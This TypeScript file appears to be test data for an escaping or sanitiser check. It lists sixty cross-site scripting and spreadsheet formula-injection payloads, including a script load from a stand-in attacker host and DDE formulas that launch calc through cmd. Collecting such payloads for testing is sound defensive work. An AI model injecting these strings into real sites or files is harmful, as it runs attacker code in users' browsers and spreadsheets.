/**
 * Sixty hostile texts. A text that is not escaped could run as a script, load another page, or calculate in a spreadsheet. Each text is
 * short enough for a name.
 */
export const vectors: readonly string[] = [
  // Scripts, also malformed scripts and scripts that first close the element around them.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '</title></textarea></select><script>alert(1)</script>',
  '<script\nx>alert(1)</script\nx>',
  '"><script>alert(1)</script>',
  "<script type=module>import('data:text/javascript,alert(1)')</script>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // Attributes with scripts.
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror\n=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href=# onmouseover=alert(1)>x</a>',
  '" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)",
  '<style onload=alert(1)></style>',
  '<object data=x onerror=alert(1)></object>',
  // URLs that run scripts.
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'java\tscript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=javascript:alert(1)><button autofocus>x</button></form>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<base href="javascript:alert(1)//">',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="data:text/css,*{display:none}">',
  // SVG and MathML.
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg></p><style><g title="</style><img src=x onerror=alert(1)>">',
  // Templates.
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)} #{alert(1)} <%= alert(1) %> {%7*7%} [[7*7]]',
  '<template><script>alert(1)</script></template>',
  // Entities, escapes and unclosed quotes.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert&#40;1&#41;&#62;',
  '\\u003cscript\\u003ealert(1)%3C/script%3E\\x3c',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<!--><img src=x onerror=alert(1)>-->',
  // Characters that look like other characters, or are invisible.
  '＜script＞alert(1)＜/script＞\u202E>tpircs<',
  '<im\u200Bg src=x onerror\uFEFF=alert(1)>\u2028alert(1)',
  // Styles, Markdown, and texts that run in several contexts.
  'x" style="animation:x" onanimationstart="alert(1)',
  '[x](javascript:alert(1)) ![x](x"onerror="alert(1)) <javascript:alert(1)>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//<svg/oNloAd=alert(1)>',
  // Formulas of spreadsheets.
  '=HYPERLINK("javascript:alert(1)","x")',
  "+SUM(1)*cmd|' /C calc'!A0",
  "-1+1+cmd|' /C calc'!A0",
  '@SUM(1+1)*alert(1)',
];

/** Returns the vector at an index. After the last vector, the list begins again. */
export const findVector = (index: number): string => vectors[index % vectors.length] ?? '';

/** Joins several vectors into one text, beginning with the vector at `index`. */
export const joinVectors = (index: number, count: number): string =>
  Array.from({ length: count }, (_, offset) => findVector(index + offset)).join('\n\n');
